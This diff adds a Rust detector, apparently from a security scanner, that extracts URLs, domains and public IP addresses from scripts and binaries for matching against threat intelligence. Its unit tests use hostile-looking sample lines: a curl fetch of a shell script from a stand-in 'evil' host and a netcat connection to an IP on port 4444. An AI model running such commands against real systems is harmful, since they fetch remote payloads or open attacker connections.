@@ -1,0 +1,216 @@
+//! Collects the URLs, domains and addresses that programs name.
+//!
+//! Nothing is judged here: the values are matched against intelligence and link images to one another.
+//!
+//! - Sees: `http`, `https`, `ftp`, `tcp` and `ws` URLs in scripts, ELF files and text that looks like code, up to 64 a file.
+//! - Misses: hosts without a scheme, split or encoded ones.
+//! - False alarms: none that count, as every match is a fact. To keep them few, loopback, private, documentation and
+//!   reserved addresses, names that cannot be resolved, templates, and the hosts of `rules/intel/common_hosts.txt` are skipped.
+//! - Source: RFC 3986; RFC 6761 (special names); RFC 6890 (special addresses).
+
+use std::{
+    collections::{BTreeSet, HashSet},
+    net::Ipv4Addr,
+    sync::LazyLock,
+};
+
+use model::{Category, Confidence, FileKind, Indicator, IndicatorKind, Maturity, Severity, Weight};
+
+use super::{About, Detector, Match, Sample, Scope};
+
+pub(crate) const DETECTOR: Detector = Detector {
+    about: About {
+        id: "indicators",
+        title: "Names hosts on the internet",
+        category: Category::Other,
+        weight: Weight::Fact,
+        severity: Severity::Info,
+        confidence: Confidence::High,
+        maturity: Maturity::Draft,
+        techniques: &[],
+    },
+    scope: Scope::Content {
+        kinds: &[FileKind::Script, FileKind::Elf, FileKind::Text],
+        literals: &["http://", "https://", "ftp://", "tcp://", "wss://"],
+    },
+    inspect,
+};
+
+/// Most values kept of one file.
+const VALUES_MAX: usize = 64;
+/// Longest URL kept.
+const URL_BYTES_MAX: usize = 256;
+/// Text is judged to be code or not by this much of it.
+const HEAD_BYTES: usize = 4096;
+
+static COMMON_HOSTS: LazyLock<HashSet<&str>> = LazyLock::new(|| {
+    let list = include_str!("../../../../rules/intel/common_hosts.txt");
+    list.lines().map(str::trim).filter(|line| !line.is_empty() && !line.starts_with('#')).collect()
+});
+
+fn inspect(sample: &Sample<'_>) -> Vec<Match> {
+    if sample.kind == FileKind::Text && !looks_like_code(sample.bytes) {
+        return Vec::new();
+    }
+    let mut values = BTreeSet::new();
+    let (mut first, mut done) = (None, 0);
+    for hit in sample.hits {
+        // A URL inside a URL is a parameter.
+        if hit.offset < done || values.len() >= VALUES_MAX {
+            continue;
+        }
+        let Some(rest) = sample.bytes.get(hit.offset..) else { continue };
+        let length = rest.iter().take(URL_BYTES_MAX).take_while(|b| is_url_byte(**b)).count();
+        done = hit.offset + length;
+        let Some(url) = rest.get(..length).and_then(|url| std::str::from_utf8(url).ok()) else { continue };
+        let Some(host) = public_host(url) else { continue };
+        first.get_or_insert(hit.offset);
+        let url = url.trim_end_matches(['.', ',', ')', ';', ':', '!', '?', '*', '_', '/']);
+        values.insert(Indicator { kind: IndicatorKind::Url, value: url.to_owned() });
+        values.insert(host);
+    }
+    let Some(first) = first else { return Vec::new() };
+    let mut hosts = values.iter().filter(|value| value.kind != IndicatorKind::Url).map(|value| value.value.as_str());
+    let name = hosts.next().unwrap_or_default();
+    let summary = match hosts.count() {
+        0 => format!("names {name}"),
+        more => format!("names {name} and {more} more"),
+    };
+    let mut found = Match::new(summary, first);
+    found.indicators = values.into_iter().take(VALUES_MAX).collect();
+    vec![found]
+}
+
+/// Brackets, braces, `=`, `;` and `$` make up at least one character in fifty, and it is not markup.
+fn looks_like_code(bytes: &[u8]) -> bool {
+    let head = bytes.get(..HEAD_BYTES).unwrap_or(bytes);
+    let signs =
+        head.iter().filter(|b| matches!(b, b'{' | b'}' | b'(' | b')' | b'=' | b';' | b'$' | b'&' | b'|')).count();
+    !head.trim_ascii_start().starts_with(b"<") && signs * 50 >= head.len()
+}
+
+fn is_url_byte(byte: u8) -> bool {
+    byte.is_ascii_graphic() && !matches!(byte, b'"' | b'\'' | b'`' | b'<' | b'>' | b'\\' | b'^' | b'|')
+}
+
+/// The host of a URL as an indicator, if it could be reached and is not one that everybody names.
+fn public_host(url: &str) -> Option<Indicator> {
+    let (_, rest) = url.split_once("://")?;
+    let end = rest.find(['/', '?', '#', ',', ')', ']', ';', '}']).unwrap_or(rest.len());
+    let (authority, path) = rest.split_at_checked(end)?;
+    let authority = authority.rsplit_once('@').map_or(authority, |(_, host)| host);
+    let (host, port) = authority.split_once(':').map_or((authority, ""), |(host, port)| (host, port));
+    let host = host.trim_end_matches('.').to_ascii_lowercase();
+    if let Ok(address) = host.parse::<Ipv4Addr>() {
+        let has_port = port.parse::<u16>().is_ok();
+        let value = if has_port { format!("{address}:{port}") } else { address.to_string() };
+        return is_public(address).then_some(Indicator { kind: IndicatorKind::Address, value });
+    }
+    (is_name(&host) && !is_common(&host, path)).then_some(Indicator { kind: IndicatorKind::Domain, value: host })
+}
+
+fn is_public(address: Ipv4Addr) -> bool {
+    let [a, b, c, _] = address.octets();
+    !(address.is_loopback()
+        || address.is_private()
+        || address.is_link_local()
+        || address.is_documentation()
+        || address.is_multicast()
+        || a == 0
+        || a >= 240
+        || (a == 100 && b & 0xc0 == 64)
+        || (a == 192 && b == 0 && c == 0)
+        || (a == 198 && b & 0xfe == 18)
+        // What people write when they need just any address.
+        || address == Ipv4Addr::new(1, 2, 3, 4))
+}
+
+/// At least two labels of letters, digits and inner hyphens, and a top-level domain of letters that is not set apart.
+fn is_name(host: &str) -> bool {
+    const SET_APART: &[&str] = &[
+        "test",
+        "example",
+        "invalid",
+        "localhost",
+        "local",
+        "internal",
+        "localdomain",
+        "lan",
+        "home",
+        "corp",
+        "foo",
+        "bar",
+        "tld",
+    ];
+    let top = host.rsplit('.').next().unwrap_or_default();
+    host.len() <= 253
+        && host.contains('.')
+        && host.split('.').all(|label| {
+            (1..=63).contains(&label.len())
+                && !label.starts_with('-')
+                && label.bytes().all(|b| b.is_ascii_alphanumeric() || matches!(b, b'-' | b'_'))
+        })
+        && top.len() >= 2
+        && top.bytes().all(|b| b.is_ascii_lowercase())
+        && !SET_APART.contains(&top)
+}
+
+fn is_common(host: &str, path: &str) -> bool {
+    let mut name = host;
+    loop {
+        if COMMON_HOSTS.contains(name) || matches!(name, "example.com" | "example.org" | "example.net") {
+            return true;
+        }
+        match name.split_once('.') {
+            Some((_, parent)) => name = parent,
+            None => break,
+        }
+    }
+    // Every project links to its home; what matters are the files that anybody can put there.
+    matches!(host, "github.com" | "www.github.com" | "gitlab.com" | "bitbucket.org" | "sourceforge.net")
+        && !["/releases/download/", "/raw/", "/archive/", "/downloads/"].iter().any(|files| path.contains(files))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::DETECTOR;
+    use crate::detectors::testing::{check, run};
+
+    fn values(text: &str) -> Vec<String> {
+        let script = format!("#!/bin/sh\n{text}\n");
+        let found = run(&DETECTOR, "x", 0o755, script.as_bytes());
+        found.iter().flat_map(|found| &found.indicators).map(|indicator| indicator.value.clone()).collect()
+    }
+
+    #[test]
+    fn hosts_and_urls_are_kept_once() {
+        assert_eq!(
+            values("curl http://files.evil.xyz/a.sh; curl http://files.evil.xyz/a.sh; nc tcp://45.9.148.1:4444"),
+            ["http://files.evil.xyz/a.sh", "tcp://45.9.148.1:4444", "files.evil.xyz", "45.9.148.1:4444"]
+        );
+    }
+
+    #[test]
+    fn what_nobody_can_reach_or_everybody_names_is_left_out() {
+        for text in [
+            "http://127.0.0.1/ http://10.0.0.1 http://192.0.2.7 http://localhost:80 http://[::1]/ http://$HOST/x",
+            "https://example.com/ https://www.w3.org/2000/svg https://deb.debian.org/debian http://foo.test https://",
+            "https://github.com/a/b/issues/1",
+        ] {
+            assert_eq!(values(text), [""; 0], "{text}");
+        }
+        assert_eq!(values("https://github.com/a/b/releases/download/v1/x").len(), 2);
+    }
+
+    #[test]
+    fn prose_and_markup_are_passed_over() {
+        check(&DETECTOR, "x", b"See http://files.evil.xyz/ for more about this and other words.\n", &[]);
+        check(&DETECTOR, "x", b"<a href=\"http://files.evil.xyz/\">(x)</a>", &[]);
+    }
+
+    #[test]
+    fn a_file_of_nothing_but_urls_stays_bounded() {
+        let many: String = (0..1000).map(|i| format!("https://h{i}.evil.xyz/;")).collect();
+        assert_eq!(values(&many).len(), 64);
+    }
+}
